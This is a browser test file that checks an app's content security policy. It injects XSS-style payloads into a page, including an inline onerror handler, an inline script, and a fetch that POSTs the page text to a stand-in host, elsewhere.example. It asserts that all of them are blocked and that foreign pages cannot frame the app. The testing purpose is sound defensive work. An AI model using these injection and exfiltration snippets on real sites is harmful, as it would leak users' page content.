"""The content policy that every answer carries: what would harm does not happen. That no page needs what it forbids is looked at by
every test of this folder (open_page)."""

from __future__ import annotations

import pytest

from tests.browser.whole_app import at_rest

pytestmark = pytest.mark.browser
INJECTED = """() => new Promise((done) => {
  const refused = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    refused.push(event.effectiveDirective);
    if (refused.length === 5) done([refused.sort(), window.stolen ?? null]);
  });
  const put = (html) => document.body.append(document.createRange().createContextualFragment(html));
  put('<img src="data:," onerror="window.stolen = 1">');
  put('<script>window.stolen = 2</script>');
  put('<img src="https://elsewhere.example/?secret">');
  put('<iframe src="https://elsewhere.example/"></iframe>');
  fetch('https://elsewhere.example/', { method: 'POST', body: document.body.innerText }).catch(() => {});
})"""


def test_what_is_slipped_into_a_page_neither_runs_nor_reaches_anybody(first, forbidden):
    page = first()
    at_rest(page)
    refused, stolen = page.evaluate(INJECTED)
    assert refused == ["connect-src", "frame-src", "img-src", "script-src-attr", "script-src-elem"]
    assert stolen is None
    assert forbidden


def test_no_page_of_elsewhere_can_frame_the_app(url, serve, open_page, forbidden):
    """An app that says nothing about it can be framed."""
    page = open_page("about:blank")
    html = f"<iframe src='{url}'></iframe><iframe src='{serve('slow.py')}'></iframe>"
    page.route("http://elsewhere.example/", lambda route: route.fulfill(body=html, content_type="text/html"))
    page.goto("http://elsewhere.example/")
    ours, another = page.frames[1:]
    assert ours.url.startswith("chrome-error:") and another.url.startswith("http://127.0.0.1")
